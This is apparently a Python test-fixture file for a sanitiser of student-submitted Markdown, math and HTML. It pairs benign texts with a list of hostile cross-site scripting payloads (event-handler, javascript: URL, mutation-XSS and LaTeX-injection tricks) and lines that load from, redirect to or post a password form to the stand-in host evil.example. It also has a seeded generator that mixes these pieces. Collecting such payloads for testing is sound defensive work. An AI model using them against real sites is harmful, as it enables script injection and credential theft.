"""Texts of students, honest and hostile; what is hostile calls ``won()`` or evil.example."""

from __future__ import annotations

import random

HONEST = [
    "Because $a < b$ & $c > d$: `x < y`, \"so\" 'it' is. 1 < 2 & 3 > 2 &amp; &lt; AT&T",
    "$$\n\\frac{\\partial L}{\\partial w} < \\sum_i x_i\n$$\n\\begin{align}a&=b\\end{align}",
    "```python\nif x < 1 and y > '2' & \"3\":\n    pass\n\n\nprint(1)\n```\n\n```\n<b>\n```",
    "| a | b |\n|:--|--:|\n| 1 | `2<3` |",
    "# Title\n\n1. one\n2. two\n\n7. seven\n\n- [x] done\n- [ ] not\n\n> said\n\n---\n"
    "end  \nof line",
    "[docs](https://numpy.org/doc/?a=1&b=2 \"the 'docs'\"), <https://example.org>, "
    "https://example.org/x?y=1, <me@example.org>, ~~no~~ **yes** _perhaps_",
    "<details><summary>why</summary>\n\nso\n\n</details>\n\na<br>b H<sub>2</sub>O x<sup>2</sup>",
    "![seen](data:image/png;base64,iVBORw0KGgo=)",
    "größe 😀 \\* \\$5 and 5$",
    "",
]

HOSTILE = [
    "<script>won()</script>",
    "<img src=x onerror=won()> <b onmouseover=won()>b</b>",
    "<details open ontoggle=won()><summary>x</summary></details>",
    "![](http://evil.example/x.png) <img src='//evil.example/y.png'>",
    "<link rel=stylesheet href=http://evil.example/z.css><style>@import 'http://evil.example'</style>",
    "<iframe src='javascript:parent.won()'></iframe><object data='data:text/html,x'></object>",
    "<form action=http://evil.example><input name=password autofocus onfocus=won()></form>",
    "<svg onload=won()><script>won()</script></svg>",
    "<p style='background: url(http://evil.example/x.png)'>x</p>",
    "[look](javascript:won()) <a href='jAvAsCrIpT&colon;won()'>x</a> <javascript:won()>",
    "[look][it]\n\n[it]: javascript:won()",
    "<meta http-equiv=refresh content='0; url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<div onclick=won() title='\n\nand a tag that has no end <img src=x onerror=won()",
    "</div></div></div></body><script>won()</script>",
    "```mermaid\n<img src=x onerror=won()>\n```",
    "<math><mtext></table><mglyph><style><img src=x onerror=won()></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=won()>'></noscript>",
    "<!--><img src=x onerror=won()>-->",
    "> - ```\n<svg/onload=won()>",
    "![x](attachment:nothing.png)",
    "$\\href{javascript:won()}{x}$ $\\text{<img src=x onerror=won()>}$ $\\unicode{x3c}script>$",
    '![$\\text{" onerror=won() }$](data:image/png;base64,iVBO)',
    "![$\\text{\" onerror=won() <b>}$](x) [x](https://e.example '$\\text{\" onclick=won()}$')",
]

_PIECES = [
    *HOSTILE,
    *("<div ", "onclick=won() ", "<b>", "</b>", "</div>", "<!--", "-->", "<![CDATA[", "]]>", "<?x"),
    *("<table>", "<td>", "<pre>", "</pre>", "`", "```\n", "\n", "\n\n", "    ", "> ", "- ", "1. "),
    *("$", "$$", "\\", "\\\\[", "\\begin{a}", "\\end{a}", "[x](", ")", "![", "&lt;", "&#10;", "&"),
    *("<", "'", '"', ">", "\t", "*", "|", "\n|-|-|\n", "<a href=", "title=", "https://x.example"),
    *(
        "<textarea>",
        "<plaintext>",
        "<select>",
        "<template>",
        "<li>",
        "\x00",
        "\x0b",
        "\x0c",
        "\x85",
    ),
]


def soups(number: int) -> list[str]:
    """Texts put together from pieces by chance, always the same."""
    rng = random.Random(2026)
    return ["".join(rng.choices(_PIECES, k=rng.randint(1, 12))) for _ in range(number)]
